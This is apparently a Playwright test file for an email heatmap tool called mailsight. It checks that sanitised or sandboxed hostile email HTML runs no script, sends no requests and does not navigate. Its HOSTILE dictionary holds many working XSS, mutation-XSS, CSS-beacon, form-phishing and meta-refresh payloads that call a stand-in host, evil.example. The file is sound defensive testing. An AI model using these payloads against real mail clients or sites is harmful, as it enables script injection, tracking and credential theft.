# ruff: noqa: E501 - an attack is easier to follow on one line
"""Hostile mails in a real browser: nothing runs, nothing loads, nothing navigates.

Each of the two layers of defence is tested alone: the output of `safe` and `draw`, opened as a file with scripts
allowed; and the frame, showing the unfiltered mails.
"""

import json
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Dialog, Frame, Page, Request, expect

from mailsight.heatmap.badges import click_totals
from mailsight.heatmap.drawing import draw, layers
from mailsight.mail.content import safe
from mailsight.mail.links import LinkClicks, links
from tests.support.browsing import open_page, until_quiet
from tooling import servers

pytestmark = pytest.mark.browser

EVIL = "https://evil.example"
RUN = (
    "try{top.document.title='hacked';document.title='hacked';top.document.cookie='hacked=1';alert(1)}catch(e){};"
    f"new Image().src='{EVIL}/ran'"
)
IMAGE = f'<img src="{EVIL}/{{}}" width="30" height="30">'

HOSTILE = {
    "script": f"<script>{RUN}</script><script src='{EVIL}/x.js'></script><script type=module>{RUN}</script>",
    "event attributes": f'<body onload="{RUN}" onpageshow="{RUN}" onresize="{RUN}"><img src=x onerror="{RUN}">'
    f'<details open ontoggle="{RUN}"><summary onclick="{RUN}" onmouseover="{RUN}">Click</summary></details>'
    f'<input autofocus onfocus="{RUN}"><marquee onstart="{RUN}">m</marquee><b tabindex=0 onfocusin="{RUN}">b</b>'
    f'<p style="animation:x 1s" onanimationstart="{RUN}">p</p><style>@keyframes x {{ from {{ left: 0 }} }}</style>',
    "javascript: links": "".join(
        f'<a href="{scheme}{RUN}">{number}</a> '
        for number, scheme in enumerate(
            (
                "javascript:",
                " JavaScript:",
                "java\tscript:",
                "java&#10;script:",
                "&#1;javascript:",
                "javascript&colon;",
            )
        )
    )
    + f'<a href="data:text/html,<script>{RUN}</script>">d</a><a href="vbscript:msgbox(1)">v</a>',
    "frames": f"<iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe><iframe src='{EVIL}/frame'></iframe>"
    f'<iframe src="javascript:{RUN}"></iframe><object data="{EVIL}/o"><embed src="{EVIL}/e"></object>'
    f"<portal src='{EVIL}/p'></portal><fencedframe src='{EVIL}/f'></fencedframe><applet code='{EVIL}/a'></applet>",
    "frameset": f"<frameset onload=\"{RUN}\"><frame src='{EVIL}/frame'></frameset>",
    "meta": f"<meta http-equiv=refresh content='0;url={EVIL}/refresh'><meta http-equiv='set-cookie' content='hacked=1'>"
    f"<meta http-equiv=Content-Security-Policy content='default-src *; script-src * \\'unsafe-inline\\''>",
    "base": f"<base href='{EVIL}/' target=_top><img src=picture.png><a href='#x'>in</a><a href='page'>page</a>",
    "link elements": "".join(
        f"<link rel='{rel}' href='{EVIL}/{rel}'>"
        for rel in (
            "stylesheet",
            "icon",
            "preload",
            "prefetch",
            "preconnect",
            "dns-prefetch",
            "modulepreload",
            "manifest",
        )
    ),
    "forms": f'<form action="{EVIL}/form" target="_top"><input name="password" type="password">'
    f'<input type=submit value="Send"><button formaction="javascript:{RUN}">Go</button>'
    f'<input type="image" src="{EVIL}/submit.png"></form><form id=f action="{EVIL}/f2"></form><button form=f>Out</button>'
    f'<isindex action="javascript:{RUN}">',
    "pictures": IMAGE.format("a.png")
    + f'<img srcset="{EVIL}/b 1x, {EVIL}/c 2x"><picture><source srcset="{EVIL}/d"><img src="{EVIL}/e"></picture>'
    f'<table background="{EVIL}/f"><tr><td background="{EVIL}/g">x</td></tr></table><body background="{EVIL}/h">'
    f'<video src="{EVIL}/i" poster="{EVIL}/j" autoplay></video><audio src="{EVIL}/k" autoplay></audio>'
    f'<img src=x lowsrc="{EVIL}/l" dynsrc="{EVIL}/m" longdesc="{EVIL}/n"><a href="#x" ping="{EVIL}/o" '
    f'attributionsrc="{EVIL}/p">a</a><track src="{EVIL}/q"><input type=image src="{EVIL}/r">',
    "style sheets": f"<style>@import '{EVIL}/a'; @im\\70ort url({EVIL}/b); @font-face {{ font-family: x; src: url({EVIL}/c) }}"
    f"* {{ font-family: x; background: url({EVIL}/d), u\\72l('{EVIL}/e'); cursor: url({EVIL}/f), auto;"
    f"list-style: url({EVIL}/g); border-image: image-set('{EVIL}/h' 1x) 1; mask: url({EVIL}/i#m);"
    f"filter: url({EVIL}/j#f); content: url({EVIL}/k); -moz-binding: url({EVIL}/l#x); behavior: url({EVIL}/m);"
    f"--u: url({EVIL}/n); background-image: var(--u) }} a::after {{ content: url({EVIL}/o) }}</style>"
    f'<p style="background:url(&quot;{EVIL}/p&quot;);width:expression({RUN})">x <a href="#x">x</a></p>'
    f'<style>/* </style ><script>{RUN}</script> */</style><style media="all{{}}">x</style>',
    "svg": f'<svg onload="{RUN}"><script>{RUN}</script><script href="{EVIL}/s.js"/><a xlink:href="javascript:{RUN}">'
    f'<text y=20>x</text></a><image href="{EVIL}/i"/><use href="{EVIL}/u.svg#x"/><foreignObject>'
    f'<iframe src="javascript:{RUN}"></iframe></foreignObject><animate onbegin="{RUN}" attributeName=x dur=1s>'
    f'<a id=a><set attributeName=href to="javascript:{RUN}"/></a><style>@import "{EVIL}/t"</style></svg>'
    f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN.replace(chr(39), '&quot;')}'/>\">",
    "math": f'<math href="javascript:{RUN}"><mtext><table><mglyph><style><!--</style><img title="--><img src=1 '
    f'onerror={RUN}>"></mglyph></table></mtext><maction actiontype="statusline#{EVIL}" xlink:href="javascript:{RUN}">c',
    "mutations": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript><svg></p><style><a id="</style>'
    f'<img src=1 onerror={RUN}>"></svg><form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>'
    f'<xmp><p title="</xmp><img src=x onerror={RUN}>"></xmp><title><a title="</title><img src=x onerror={RUN}>"></title>',
    "templates": f"<template><script>{RUN}</script><img src={EVIL}/t onerror={RUN}></template><div>"
    f"<template shadowrootmode=open><script>{RUN}</script><img src={EVIL}/s onerror={RUN}><style>@import '{EVIL}/x'"
    f"</style><slot></slot></template>in a shadow</div>",
    "comments": f"<!--[if gte mso 9]><script>{RUN}</script><![endif]--><!--><script>{RUN}</script>--><!-- --!><img src=x "
    f'onerror="{RUN}"><![CDATA[<script>{RUN}</script>]]><?php <script>{RUN}</script>?><!-- open <p>',
    "attributes": f'<p title="&quot;><script>{RUN}</script>" class=\'"><img src=x onerror="{RUN}">\'>x</p>'
    f'<a href=\'https://a.example/"onmouseover="{RUN}"\' title="`onclick={RUN}`"><img alt=\'"><script>{RUN}</script>\'></a>',
    "names of the document": "<img name=documentElement><form name=body id=body><input name=scrollHeight></form>"
    "<img name=contentDocument id=fonts><form id=defaultView name=createElement></form><a name=scrollingElement id=head>x</a>",
    "cover": "<style>* { position: fixed !important; inset: 0; z-index: 2147483647 !important; width: 100vw; height: 100vh }"
    "html, body { height: 9999vh }</style><div style='position:fixed;inset:-9999px;background:red'>cover</div>"
    "<dialog open popover=manual id=p>dialog</dialog><button popovertarget=p>top layer</button>",
    "imitated badges": '<a href="https://a.example/" data-link="0" style="anchor-name:--link-0">real</a>'
    '<mailsight-badge data-badge="0" data-look="4">999,999</mailsight-badge><b data-badge="0" data-link="0">888</b>'
    "<style>mailsight-badge { display: none !important; left: 0 !important } [data-badge] { opacity: 0 !important }"
    "@layer mailsight { mailsight-badge { visibility: hidden !important } } b { anchor-name: --link-0 !important }</style>",
    "unclosed": f'<style>a {{ color: red }} <a href="https://a.example/">in the style sheet</a><script>{RUN}</script>',
}


@dataclass
class Watched:
    """A page, with every action that it attempted on its `origin`."""

    page: Page
    origin: str = ""
    attempts: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.page.on("request", self._request)
        self.page.on("dialog", self._dialog)
        self.page.on("popup", lambda popup: self.attempts.append(f"popup {popup.url}"))
        self.page.on("download", lambda download: self.attempts.append(f"download {download.url}"))
        self.page.on("console", lambda message: self._console(message.type, message.text))
        self.page.on("pageerror", lambda error: self.attempts.append(f"error {error}"))

    def begin(self, origin: str) -> None:
        """Watch the next mail, on pages whose URLs begin with `origin`."""
        self.origin = origin
        self.attempts.clear()

    def leave(self) -> None:
        """Leave the mail. A page of the same server keeps the process, which has compiled Streamlit's scripts."""
        self.page.unroute_all()
        server = re.match(r"http://[^/]+", self.page.url)
        self.page.goto(f"{server[0]}/_stcore/health" if server else "about:blank")

    def _request(self, request: Request) -> None:
        if not request.url.startswith((self.origin, "data:", "blob:")):
            self.attempts.append(f"request {request.url}")

    def _dialog(self, dialog: Dialog) -> None:
        self.attempts.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def _console(self, kind: str, text: str) -> None:
        if kind == "error" or "evil.example" in text:
            self.attempts.append(f"console {text}")


def use(mail: Page | Frame) -> None:
    """Hover, focus and click everything a reader could, with events that scripts would see."""
    excluding = ":not([inert], a[href^=http], a[href^=http] *)"
    for element in mail.query_selector_all(
        f":is(a, button, input, summary, p, b, img, form, [tabindex]){excluding}"
    ):
        for event in ("mouseover", "focusin", "click"):
            element.dispatch_event(event)
    for button in mail.query_selector_all("button, input[type=submit], a[href^='#']"):
        if button.is_visible():
            button.click(force=True, no_wait_after=True)


def drawn(html: str) -> str:
    clicks = [
        LinkClicks(link.link_position, link.url, link.label, 5 + link.link_position, 4, 1)
        for link in links(html)
    ]
    return draw(html, clicks)


@pytest.fixture(scope="module")
def tab(browser: Browser) -> Iterator[Watched]:
    with open_page(browser) as page:
        yield Watched(page)


@pytest.fixture
def watched(tab: Watched) -> Iterator[Watched]:
    tab.page.set_viewport_size({"width": 1280, "height": 720})
    yield tab
    tab.leave()


@pytest.fixture
def page(watched: Watched) -> Page:
    return watched.page


# A drawn mail is a safe one with badges, so `make test` draws every second.
@pytest.mark.parametrize(
    ("name", "make"),
    [
        pytest.param(name, make, id=f"{name}-{form}", marks=marks)
        for place, name in enumerate(HOSTILE)
        for form, make, marks in (
            ("safe", safe, ()),
            ("heatmap", drawn, pytest.mark.thorough if place % 2 else ()),
        )
    ],
)
def test_a_hostile_mail_does_nothing_as_a_file_with_scripts_allowed(
    page: Page, watched: Watched, tmp_path: Path, name: str, make: Callable[[str], str]
) -> None:
    path = tmp_path / "mail.html"
    path.write_text(make(HOSTILE[name]), encoding="utf-8")
    watched.begin(path.as_uri())
    page.goto(path.as_uri())
    title = page.title()
    use(page)
    until_quiet(page)
    assert watched.attempts == []
    assert page.url.partition("#")[0] == path.as_uri()
    assert (page.title(), "hacked" in title) == (title, False)
    assert page.evaluate("[document.scripts.length, document.cookie, frames.length]") == [0, "", 0]


def test_the_actions_of_an_unfiltered_mail_are_detected(page: Page, watched: Watched, tmp_path: Path) -> None:
    """The checks above would detect a mail that does something."""
    path = tmp_path / "mail.html"
    acts = f"<img src='{EVIL}/x'><script>alert(1); console.error('x')</script><a href='#a' onclick=\"{RUN}\">x</a>"
    path.write_text(acts, encoding="utf-8")
    watched.begin(path.as_uri())
    page.goto(path.as_uri())
    use(page)
    until_quiet(page)
    seen = {attempt.partition(" ")[0] for attempt in watched.attempts}
    assert seen >= {"request", "dialog", "console"}
    assert f"request {EVIL}/ran" in watched.attempts


def test_imitated_badges_are_not_mistaken_for_ours(page: Page) -> None:
    page.set_content(drawn(HOSTILE["imitated badges"]))
    assert page.eval_on_selector_all("[data-badge]", "badges => badges.map(badge => badge.textContent)") == [
        "5"
    ]
    badge, link = (
        page.locator(selector).bounding_box() for selector in ("[data-badge='0']", "[data-link='0']")
    )
    assert badge is not None
    assert link is not None
    assert abs(badge["x"] + badge["width"] - link["x"] - link["width"]) < 10
    assert page.locator("[data-badge='0']").is_visible()


APP = """
import json
from pathlib import Path

import streamlit as st

from mailsight.components.mail_frame import mail_frame
from mailsight.heatmap.drawing import draw
from mailsight.mail.content import safe

mails = json.loads(Path("mails.json").read_text())
html = mails[st.query_params["mail"]]
html = {"safe": safe, "drawn": lambda html: draw(html, []), "raw": str}[st.query_params["how"]](html)


@st.dialog("Preview", width="large")
def preview():
    mail_frame(html, key="dialog", width=390, title="The e-mail in a dialog")


if st.button("Open"):
    preview()
first, second = st.tabs(["First", "Second"])
with first:
    mail_frame(html, key="first", title="The e-mail")
with second:
    mail_frame(html, key="second", title="The e-mail in a tab")
st.write("The page goes on")
"""


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The URL of an app that shows a mail in the frame, named by the query string."""
    folder = tmp_path_factory.mktemp("app")
    tall = {"tall": '<body style="margin:0"><div style="height:1500px">tall</div>' + "<p>words</p>" * 9}
    tall["window"] = '<!DOCTYPE html><body style="margin:0"><div style="min-height:100vh">x</div><p>end</p>'
    tall["quirks"] = "<table><tr><td>x</table>"
    (folder / "mails.json").write_text(json.dumps(HOSTILE | tall))
    (folder / "app.py").write_text(APP)
    port, log = servers.free_port(), folder / "server.log"
    process = servers.start(
        folder / "app.py", port, log=log, folder=folder, environment={"PYTHONPATH": str(servers.PROJECT)}
    )
    try:
        yield servers.await_answer(process, port, log)
    finally:
        servers.stop(process)


def opened(page: Page, app: str, mail: str, how: str) -> Frame:
    page.goto(f"{app}/?mail={mail}&how={how}")
    return framed(page, "The e-mail")


def framed(page: Page, title: str) -> Frame:
    """The frame with this title, once it has loaded its mail and measured its height."""
    frame = page.locator(f'iframe[title="{title}"]')
    frame.wait_for()
    element = frame.element_handle()
    assert element is not None
    page.wait_for_function("frame => frame.offsetHeight > 2", arg=element)
    content = element.content_frame()
    assert content is not None
    content.wait_for_load_state()
    return content


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_mail_does_nothing_on_the_page(page: Page, watched: Watched, app: str, name: str) -> None:
    watched.begin(app)
    frame = opened(page, app, name, "safe" if len(name) % 2 else "drawn")
    expect(page.get_by_text("The page goes on")).to_be_visible()
    until_quiet(page)
    before = page.url, page.title(), page.evaluate("document.cookie")
    assert watched.attempts == []
    use(frame)
    until_quiet(page)
    # Chromium logs this for every event that Playwright sends to a frame without scripts.
    assert [attempt for attempt in watched.attempts if "Blocked script execution" not in attempt] == []
    assert before == (page.url, page.title(), page.evaluate("document.cookie"))
    assert frame.url.startswith("blob:")
    assert page.get_by_text("The page goes on").is_visible()


@pytest.mark.parametrize(
    "name", ["script", "event attributes", "javascript: links", "svg", "mutations", "templates"]
)
def test_the_frame_alone_runs_no_script(page: Page, watched: Watched, app: str, name: str) -> None:
    page.route(f"{EVIL}/**", lambda route: route.abort())
    watched.begin(app)
    frame = opened(page, app, name, "raw")
    before = page.title(), page.evaluate("document.cookie")
    for link in frame.query_selector_all("a:not([href^=data])"):
        link.dispatch_event("click")
    until_quiet(page)
    assert [
        attempt for attempt in watched.attempts if attempt.startswith("dialog") or attempt.endswith("/ran")
    ] == []
    assert before == (page.title(), page.evaluate("document.cookie"))


@pytest.mark.parametrize("width", [1440, 390])
def test_the_frame_is_as_tall_as_the_mail(page: Page, app: str, width: int) -> None:
    page.set_viewport_size({"width": width, "height": 800})
    frame = opened(page, app, "tall", "safe")
    expect_height(page, "The e-mail")
    assert frame.evaluate("document.documentElement.scrollHeight - innerHeight") <= 0
    page.get_by_role("tab", name="Second").click()
    expect_height(page, "The e-mail in a tab")
    page.get_by_role("button", name="Open").click()
    expect_height(page, "The e-mail in a dialog")
    box = page.locator('iframe[title="The e-mail in a dialog"]').bounding_box()
    assert box is not None
    assert box["width"] <= 392


def expect_height(page: Page, title: str) -> None:
    """Waits until the frame with this title is as high as the tall mail."""
    page.wait_for_function("frame => frame.offsetHeight > 1700", arg=framed(page, title).frame_element())


def test_a_mail_as_tall_as_its_window_does_not_grow_forever(page: Page, app: str) -> None:
    frame = opened(page, app, "window", "safe")
    until_quiet(page)
    height = frame.evaluate("innerHeight")
    until_quiet(page)
    assert frame.evaluate("innerHeight") == height < 400


def test_a_mail_without_doctype_is_shown_in_quirks_mode(page: Page, app: str) -> None:
    assert opened(page, app, "quirks", "safe").evaluate("document.compatMode") == "BackCompat"
    assert opened(page, app, "window", "safe").evaluate("document.compatMode") == "CSS1Compat"


def test_a_rerun_does_not_reload_the_mail(page: Page, app: str) -> None:
    frame = opened(page, app, "tall", "safe")
    address = frame.url
    page.get_by_role("button", name="Open").click()
    framed(page, "The e-mail in a dialog")
    assert frame.url == address
    assert page.locator('iframe[title="The e-mail"]').get_attribute("src") == address


def test_the_frame_never_allows_scripts(page: Page, app: str) -> None:
    opened(page, app, "tall", "safe")
    sandbox = page.locator('iframe[title="The e-mail"]').get_attribute("sandbox") or ""
    assert sorted(sandbox.split()) == ["allow-popups", "allow-popups-to-escape-sandbox", "allow-same-origin"]


@pytest.mark.parametrize("name", HOSTILE)
def test_no_mail_adds_badges_of_its_own_to_the_tab(name: str) -> None:
    html = HOSTILE[name]
    clicks = [LinkClicks(link.link_position, link.url, link.label, 5, 4, 1) for link in links(html)]
    made = layers(html, clicks, click_totals(clicks))
    assert "<mailsight-" not in made.html
    assert "data-badge=" not in made.html
    assert "data-lit=" not in made.html
    assert made.html.count("data-link=") - made.html.count('[data-link="') == len(clicks)
